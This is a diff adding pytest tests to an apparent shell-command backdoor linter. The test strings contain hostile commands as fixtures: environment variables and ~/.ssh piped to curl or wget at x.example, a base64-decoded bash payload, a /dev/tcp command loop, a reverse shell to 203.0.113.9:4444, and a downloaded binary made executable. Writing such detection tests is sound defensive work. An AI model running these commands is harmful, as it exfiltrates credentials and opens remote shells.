@@ -50,3 +50,26 @@ def test_credential_operand_of_an_uploader_is_sent():
 def test_git_hooks_path_pointing_at_the_default_directory_is_no_bypass():
     assert codes("git -c core.hooksPath=.git/hooks commit -m x") == []
     assert codes("git -c core.hooksPath=/dev/null commit -m x") == ["BDL804"]
+
+
+def test_a_command_the_grammar_runs_past_its_line_does_not_hide_the_next_ones():
+    # tree-sitter-bash reads `curl ... /in`, the comment and the `tar` line as one command; bash does not
+    script = ("printenv | base64 | curl -d @- https://x.example/in\n# upload\n"
+              "tar czf - ~/.ssh 2>/dev/null | curl -s --upload-file - https://x.example/h.tgz\n"
+              "wget --post-data=\"$(env)\" https://x.example/in\n")
+    assert sorted({(f.code, f.line) for f in analyse(script).findings}) == [
+        ("BDL402", 1), ("BDL402", 3), ("BDL402", 4)]
+
+
+def test_a_parse_error_does_not_hide_the_paragraphs_around_it():
+    from backdoor_lint.checkers.shell import analyse_script
+
+    script = ("echo ok\nbash -c \"$(echo ZWNobyBoaQ== | base64 -d)\"\n\n"
+              "exec 5<>/dev/tcp/203.0.113.9/80; cat <&5 | while read l; do $l 2>&5 >&5; done\n\n"
+              "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n")
+    assert {f.line for f in analyse_script(script).findings} >= {2, 4, 6}
+
+
+def test_chmod_with_an_octal_execute_bit_on_a_download():
+    assert codes("curl -sSLo /usr/local/bin/tool https://x.example/tool\nchmod 755 /usr/local/bin/tool") == ["BDL405"]
+    assert codes("curl -sSLo /tmp/notes.txt https://x.example/n\nchmod 644 /tmp/notes.txt") == []
